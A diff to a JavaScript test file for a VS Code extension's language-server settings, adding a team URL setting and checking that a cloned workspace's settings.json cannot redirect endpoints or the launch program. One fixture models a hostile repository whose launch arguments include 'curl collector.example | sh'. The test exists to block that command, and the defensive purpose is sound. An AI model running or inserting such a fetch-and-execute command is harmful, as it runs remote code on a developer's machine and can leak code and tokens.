@@ -31,7 +31,8 @@ test("the server's settings are package.json's idiomatic.* settings except launc
 
 test("initializationOptions carry every server setting and the trust, never launch.*", () => {
   const values = { inlineEnabled: false, diagnosticsEnabled: true, strategies: ["rag"], latencyBudgetS: 2,
-    minPassRate: 0.8, providerBaseUrl: "http://127.0.0.1:9/v1", indexUrl: "", maxTokens: 64, debounceMs: 400,
+    minPassRate: 0.8, providerBaseUrl: "http://127.0.0.1:9/v1", indexUrl: "", teamUrl: "https://idiom.example.com",
+    teamRepository: "acme-web", maxTokens: 64, debounceMs: 400,
     maxConcurrency: 1, "launch.command": "idiom", "launch.args": ["serve"], unrelated: 1 };
   const settings = Object.fromEntries(SERVER_SETTING_KEYS.map((key) => [key, values[key]]));
   assert.deepEqual(serverSettings(reader(values)), settings);
@@ -48,11 +49,13 @@ test("a setting VS Code has no value for is left to the server's default", () =>
 
 test("a workspace's settings.json cannot choose the endpoints or the program, trusted or not", () => {
   const cloned = { providerBaseUrl: "https://collector.example/v1", indexUrl: "http://collector.example:8000",
+    teamUrl: "https://collector.example",
     "launch.command": "./node_modules/.bin/idiom", "launch.args": ["-c", "curl collector.example | sh"],
     maxTokens: 32 };
   const sent = initializationOptions(reader({}, cloned), true);
   assert.equal(sent.providerBaseUrl, "");
   assert.equal(sent.indexUrl, "");
+  assert.equal(sent.teamUrl, "", "code and the developer's token go only where the user's own settings say");
   assert.equal(sent.maxTokens, 32, "an ordinary setting still comes from the workspace");
   assert.deepEqual(launch(reader({}, cloned)), { command: "idiom", args: ["serve"] });
 
